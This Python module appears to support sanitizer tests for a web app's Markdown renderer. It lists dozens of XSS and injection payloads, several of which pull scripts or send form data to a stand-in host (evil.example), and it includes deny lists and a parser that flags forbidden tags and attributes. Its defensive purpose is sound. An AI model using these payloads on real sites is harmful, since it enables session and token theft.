"""Texts that would become markup somewhere, and what a page must not have."""

from __future__ import annotations

import re
from html.parser import HTMLParser

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><iframe src=//evil.example></iframe>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](JaVaScRiPt:alert(1))",
    "![x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<style>*{display:none}</style>",
    '<a href="https://x.example" onclick="alert(1)">x</a>',
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "{{ request }}{% load x %}",
    "<form action=//evil.example><input name=csrfmiddlewaretoken>",
    '```figure x"><script>alert(1)</script>\n```',
    "[a]: javascript:alert(1)\n\n[a]",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    # Elements that run, fetch or send by themselves.
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href=data:image/svg+xml,x#y />",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<body onload=alert(1)>",
    "<video src=//evil.example onerror=alert(1)></video>",
    "<audio autoplay onplay=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<p style=x:expression(alert(1))>x</p>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x xmlns:a='http://www.w3.org/1999/xhtml'><a:script>x</a:script></x>",
    "<img src='x' style=x srcset='//evil.example/x.png 2x'>",
    "<plaintext><xmp><listing>",
    # Attributes and elements left open, and quotes of all kinds.
    "x' onmouseover='alert(1)",
    'x" onmouseover="alert(1)',
    "x` onmouseover=`alert(1)",
    "<img src=x onerror=alert(1)//",
    "</option></select><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--></style></script><svg onload=alert(1)>",
    "\u2028</p><img src=x onerror=alert(1)>",
    # Addresses.
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](\x01javascript:alert(1))",
    "<javascript:alert(1)>",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x](/media/x.png "480x320, 9 KB" onerror=alert(1)")',
    '[x](/ok ""><script>alert(1)</script>")',
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "[x]: <javascript:alert(1)> 'y'\n\n[x]",
    # What our Markdown has of its own.
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{</math><script>alert(1)</script>}$",
    '$\\style{background:url(//evil.example)}{x}$ $\\class{a" onclick=alert(1)}{x}$',
    "$$\n\\unicode{x3c}script\\unicode{x3e}\n$$",
    "```video\n<script>alert()</script>\njavascript:alert(1)\n4 min, 1 MB\n\n<img src=x onerror=x>",
    '```file\n"><svg onload=alert(1)>\nhttps://evil.example/"onclick=alert(1)\n1 KB\n```',
    '{fact:x}{fact:"><script>alert(1)</script>}',
    # Templates, and formats of other places.
    "${alert(1)}#{alert(1)}<%= 1 %>{% debug %}",
    '=HYPERLINK("//evil.example")',
    "\u202e<script>alert(1)</script>\u202c",
    "\ufeff<scr\u0131pt>alert(1)</scr\u0131pt>",
]
NEVER = {
    "iframe",
    "base",
    "style",
    "object",
    "embed",
    "template",
    "plaintext",
    "xmp",
    "annotation-xml",
}
NEVER_SAID = {"style", "srcdoc", "formaction", "srcset", "http-equiv", "background", "xlink:href"}
SCHEMES = re.compile(r"\s*(?:javascript|data|vbscript):", re.IGNORECASE)


class Seen(HTMLParser):
    """Gathers what a page must not have, as a browser would find it."""

    def __init__(self, page: str):
        super().__init__()
        self.found: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        fetched = [given.get(name, "/") for name in ("src", "action")]
        if (
            tag in NEVER
            or (tag == "script" and "src" not in given)
            or not NEVER_SAID.isdisjoint(given)
            or any(name.startswith("on") for name in given)
            or any(SCHEMES.match(given.get(name, "")) for name in ("href", "src", "action"))
            or any(not address.startswith("/") or address.startswith("//") for address in fetched)
        ):
            self.found.append(f"{tag} {given}")
